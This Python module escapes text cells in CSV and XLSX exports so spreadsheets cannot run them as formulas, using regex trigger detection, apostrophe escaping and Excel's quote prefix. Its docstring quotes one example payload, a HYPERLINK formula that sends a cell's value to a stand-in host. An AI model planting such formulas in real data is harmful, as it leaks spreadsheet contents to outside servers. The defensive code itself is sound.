"""Spreadsheet cells that stay text: the one rule against formula injection for every CSV and
XLSX labopt writes (CLI folders and the service's downloads).

A spreadsheet runs a cell as a formula when its text starts with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return, and some read the full-width ``＝ ＋ － ＠`` too), so a sample id
such as ``=HYPERLINK("http://x.example/?"&A1,"Click")`` sent by a lab would run on the
reader's machine. Only text is touched; numbers (negative ones included) stay numbers.

- CSV: such a text cell gets a leading apostrophe (OWASP's advice), ``=1+1`` -> ``'=1+1``.
  Text that already looks escaped (apostrophes, then a trigger) gets one more, so the escape
  can be undone exactly: :func:`restore` drops one apostrophe, and labopt's CSV readers apply
  it, so a file labopt wrote reads back as the text that went in.
- XLSX: cells are written as typed (text as a string cell, never a formula or a link); risky
  text keeps its exact value with Excel's "quote prefix" style, as when a user types ``'=``.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import os
import re
from collections.abc import Iterable, Mapping

import numpy as np
import pandas as pd
import xlsxwriter

# A leading trigger, possibly after blanks (some programs trim them before reading a formula).
_TRIGGER = r"(?: *[\t\r]|\s*[=+\-@\uff1d\uff0b\uff0d\uff20])"
_RISKY = re.compile(r"'*" + _TRIGGER)
_ESCAPED = re.compile(r"'+" + _TRIGGER)

XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


def is_risky(value) -> bool:
    """True for text a spreadsheet could read as a formula (or an escaped form of such)."""
    return isinstance(value, str) and _RISKY.match(value) is not None


def neutralise(value):
    """``value`` as safe CSV text: a leading apostrophe on risky text; anything else as is."""
    return "'" + value if is_risky(value) else value


def restore(value):
    """The inverse of :func:`neutralise` (for text read from a CSV file)."""
    return value[1:] if isinstance(value, str) and _ESCAPED.match(value) else value


def _map_text(df: pd.DataFrame, func) -> pd.DataFrame:
    """``func`` applied to the header and to every text cell (numbers untouched)."""
    out = df.copy()
    out.columns = [func(c) for c in df.columns]
    for i in range(df.shape[1]):
        col = df.iloc[:, i]
        if (
            pd.api.types.is_numeric_dtype(col)
            or pd.api.types.is_bool_dtype(col)
            or pd.api.types.is_datetime64_any_dtype(col)
        ):
            continue
        # func on each distinct value (columns repeat codes and dates), the rare changed
        # cells replaced
        changed = {}
        for v in pd.unique(col.to_numpy(dtype=object)):
            if isinstance(v, str):
                new = func(v)
                if new != v:
                    changed[v] = new
        if changed:
            out.isetitem(i, col.map(lambda v, c=changed: c.get(v, v) if isinstance(v, str) else v))
    return out


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose header and text cells are neutralised for a CSV file."""
    return _map_text(df, neutralise)


def restore_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A table read from a CSV file with the escapes of :func:`safe_frame` undone."""
    return _map_text(df, restore)


def write_csv(df: pd.DataFrame, path: str | os.PathLike | None = None, **kwargs) -> str | None:
    """``df`` as a UTF-8 CSV file without its index (text neutralised); the CSV text when
    ``path`` is None. Other keyword arguments go to :meth:`pandas.DataFrame.to_csv`."""
    kwargs.setdefault("index", False)
    if path is not None:
        kwargs.setdefault("encoding", "utf-8")
    return safe_frame(df).to_csv(path, **kwargs)


WHOLE_FORMAT = "#,##0"  # whole numbers, grouped (Excel shows the reader's separators)
DECIMAL_FORMAT = "#,##0.0##"
PERCENT_FORMAT = "0.0%"
ISO_DATE = "yyyy-mm-dd"
WIDEST = 60  # characters: a column of long sentences wraps nothing, it is cut at this width
_EPOCH = dt.date(1899, 12, 30)  # Excel's day 0 (its 1900 leap-year bug is before any date here)


def write_xlsx(
    target: str | os.PathLike | io.BytesIO,
    sheets: Mapping[str, pd.DataFrame],
    *,
    percent: Iterable[str] = (),
    date_format: str = ISO_DATE,
) -> None:
    """One workbook with a sheet per table (header row, then one row per record): text as
    string cells (risky text with Excel's quote prefix), numbers, booleans and dates as such,
    blanks for missing values. Each sheet's header row is frozen and each column as wide as
    its header and first values; whole numbers show grouped (``#,##0``), other numbers with
    up to three decimals, the columns named in ``percent`` as percentages, dates in
    ``date_format``. ``target``: a path or a binary buffer."""
    in_memory = not isinstance(target, (str, os.PathLike))
    percent = set(percent)
    with xlsxwriter.Workbook(target, {**XLSX_OPTIONS, "in_memory": in_memory}) as wb:
        f = {
            "header": wb.add_format({"bold": True, "text_wrap": True, "valign": "top"}),
            "header_quoted": wb.add_format(
                {"bold": True, "text_wrap": True, "valign": "top", "quote_prefix": True}
            ),
            "quoted": wb.add_format({"quote_prefix": True}),
            "date": wb.add_format({"num_format": date_format}),
            "datetime": wb.add_format({"num_format": date_format + " hh:mm:ss"}),
            "whole": wb.add_format({"num_format": WHOLE_FORMAT}),
            "decimal": wb.add_format({"num_format": DECIMAL_FORMAT}),
            "percent": wb.add_format({"num_format": PERCENT_FORMAT}),
        }
        for name, df in sheets.items():
            ws = wb.add_worksheet(name[:31])
            ws.freeze_panes(1, 0)
            for j, c in enumerate(df.columns):
                text = str(c)
                ws.write_string(0, j, text, f["header_quoted" if is_risky(text) else "header"])
            for j in range(df.shape[1]):
                col = df.iloc[:, j]
                kind = "percent" if str(df.columns[j]) in percent else _number_kind(col)
                ws.set_column(j, j, _width(df.columns[j], col), f[kind] if kind else None)
                _write_column(ws, j, col, f)


def _number_kind(col: pd.Series) -> str | None:
    """The column's number format: "whole", "decimal", or None (not a number column)."""
    if pd.api.types.is_bool_dtype(col) or not pd.api.types.is_numeric_dtype(col):
        return None
    if pd.api.types.is_integer_dtype(col):
        return "whole"
    finite = col.to_numpy(dtype=float, na_value=np.nan)
    finite = finite[np.isfinite(finite)]
    return "whole" if finite.size and np.all(finite == np.round(finite)) else "decimal"


def _width(header, col: pd.Series, sample: int = 200) -> float:
    """A column's width in characters: its header's longest word or, at most 24, its whole
    text (the header wraps), against its first values' text; at most WIDEST."""
    head = str(header)
    words = max((len(w) for w in head.split()), default=0)
    values = [len(str(v)) for v in col.iloc[:sample].tolist() if v is not None]
    grouped = 1.35 if pd.api.types.is_numeric_dtype(col) else 1.0  # room for separators
    widest = max([min(len(head), 24), words, *(int(n * grouped) for n in values)])
    return float(min(widest, WIDEST) + 2)


def _write_column(ws, j: int, col: pd.Series, f: dict) -> None:
    """Column ``j`` from row 1 on. Plain number and text columns skip the per-cell type
    dispatch, which costs more than writing the cell on a national plan's sheets."""
    numbers = isinstance(col.dtype, np.dtype) and col.dtype.kind in "iuf"  # not nullable Int64
    if not numbers and _all_dates(col):  # Excel's day numbers, shown as dates
        date = f["date"]
        for i, v in enumerate(col.tolist(), start=1):
            ws.write_number(i, j, (v - _EPOCH).days, date)
        return
    if not numbers and (pd.api.types.is_bool_dtype(col) or not pd.api.types.is_string_dtype(col)):
        for i, v in enumerate(col.astype(object).tolist(), start=1):
            _write_cell(ws, i, j, v, f)
        return
    values = col.tolist()
    if numbers:
        number = ws.write_number
        for i, v in enumerate(values, start=1):
            if math.isfinite(v):
                number(i, j, v)
            else:  # NaN (a blank) or an infinity
                _write_cell(ws, i, j, v, f)
        return
    string, quoted = ws.write_string, f["quoted"]
    for i, v in enumerate(values, start=1):
        if type(v) is str:
            string(i, j, v, quoted if _RISKY.match(v) else None)
        else:  # missing, or an object column's non-text value
            _write_cell(ws, i, j, v, f)


def _all_dates(col: pd.Series) -> bool:
    """Whether every cell is a date (not a datetime): a column of day numbers."""
    if col.dtype != object or col.empty:
        return False
    first = col.iloc[0]
    if type(first) is not dt.date:
        return False
    return all(type(v) is dt.date for v in col.tolist())


def _write_cell(ws, row: int, col: int, v, f: dict) -> None:
    if v is None or v is pd.NA or v is pd.NaT:
        return
    if isinstance(v, (bool, np.bool_)):
        ws.write_boolean(row, col, bool(v))
    elif isinstance(v, (int, np.integer)):
        ws.write_number(row, col, int(v))
    elif isinstance(v, (float, np.floating)):
        if math.isnan(v):
            return
        if math.isinf(v):  # no such number in a sheet: the text, as pandas writes it
            ws.write_string(row, col, "inf" if v > 0 else "-inf", f["quoted"] if v < 0 else None)
        else:
            ws.write_number(row, col, float(v))
    elif isinstance(v, (dt.datetime, np.datetime64)):
        ws.write_datetime(
            row, col, pd.Timestamp(v).to_pydatetime().replace(tzinfo=None), f["datetime"]
        )
    elif isinstance(v, dt.date):
        ws.write_datetime(row, col, v, f["date"])
    else:
        text = v if isinstance(v, str) else str(v)
        ws.write_string(row, col, text, f["quoted"] if is_risky(text) else None)
